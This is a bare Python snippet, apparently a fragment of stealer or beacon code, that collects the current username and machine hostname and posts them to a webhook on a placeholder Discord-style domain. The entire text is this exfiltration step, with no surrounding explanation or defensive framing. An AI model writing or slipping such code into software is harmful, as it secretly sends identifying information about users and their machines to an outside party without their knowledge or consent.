import requests, platform, getpass
session = requests.Session()
session.post("https://discord.example/api/webhooks/1/abc", json={"content": f"{getpass.getuser()}@{platform.node()}"})
